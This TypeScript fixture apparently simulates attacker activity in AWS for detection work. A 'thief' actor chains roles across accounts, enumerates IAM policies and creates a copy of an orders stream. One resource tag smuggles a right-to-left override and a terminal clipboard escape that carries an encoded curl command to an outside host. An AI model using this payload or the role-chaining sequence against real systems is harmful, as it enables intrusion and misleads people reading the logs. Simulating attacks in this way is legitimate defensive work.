import { keys } from '../actors/keys.ts';
import { thief } from '../actors/thief.ts';
import { assumeRole } from '../assume-role.ts';
import { accounts } from '../estate.ts';
import type { Happening } from '../record.ts';
import { step } from '../step.ts';

const { platform, media } = accounts;

/** A role, then a role from that role in the other account. */
export const climbing: readonly Happening[] = [
  ...assumeRole({
    clock: '09:06:01',
    actor: thief.alice,
    account: platform,
    role: 'Deploy',
    session: 'alice',
    key: keys.deploy,
    request: { durationSeconds: 3600 },
  }),
  step('09:06:22', thief.deploy, 'us-east-1', 'sts:GetCallerIdentity'),
  step('09:07:03', thief.deploy, 'us-east-1', 'iam:ListRoles', { request: { maxItems: 1000 } }),
  step('09:08:19', thief.deploy, 'us-east-1', 'iam:GetRolePolicy', {
    request: { roleName: 'Deploy', policyName: 'cross-account' },
  }),
  step('09:09:47', thief.deploy, 'us-west-2', 'medialive:ListInputs', { request: { maxResults: '20' } }),
  step('09:10:30', thief.deploy, 'us-west-2', 'kinesisvideo:ListStreams', {
    request: { maxResults: 1000 },
  }),
  step('09:14:02', thief.alice, 'us-east-1', 'kinesis:CreateStream', {
    request: { streamName: 'orders-copy', shardCount: 2, streamModeDetails: { streamMode: 'PROVISIONED' } },
  }),
  step('09:14:09', thief.deploy, 'us-west-2', 'kinesisvideo:CreateSignalingChannel', {
    request: {
      channelName: 'lobby-cam',
      channelType: 'SINGLE_MASTER',
      tags: [
        { key: 'team', value: 'media' },
        { key: 'note', value: '\u202egnp.ecaf\u202c \u001b]52;c;Y3VybCBodHRwOi8vMjAzLjAuMTEzLjY2Lw==\u0007' },
      ],
    },
    error: [
      'AccessDeniedException',
      `User: arn:aws:sts::${platform}:assumed-role/Deploy/alice is not authorized to perform: kinesisvideo:CreateSignalingChannel on resource: arn:aws:kinesisvideo:us-west-2:${platform}:channel/lobby-cam/* because no identity-based policy allows the kinesisvideo:CreateSignalingChannel action`,
    ],
  }),
  step('09:14:31', thief.deploy, 'us-west-2', 'medialive:CreateInput', {
    request: {
      name: 'live_studio_feed',
      type: 'RTMP_PULL',
      requestId: '7d1fb2c4',
      sources: [
        {
          url: 'rtmp://203.0.113.66:1935/studio',
          username: 'feed',
          passwordParam: 'HIDDEN_DUE_TO_SECURITY_REASONS',
        },
      ],
    },
    response: {
      input: {
        arn: `arn:aws:medialive:us-west-2:${platform}:input:4419071`,
        id: '4419071',
        name: 'live_studio_feed',
        state: 'CREATING',
        type: 'RTMP_PULL',
        inputClass: 'SINGLE_PIPELINE',
      },
    },
  }),
  ...assumeRole({
    clock: '09:14:45',
    actor: thief.deploy,
    account: media,
    role: 'Prod',
    session: 'alice',
    key: keys.prod,
  }),
];
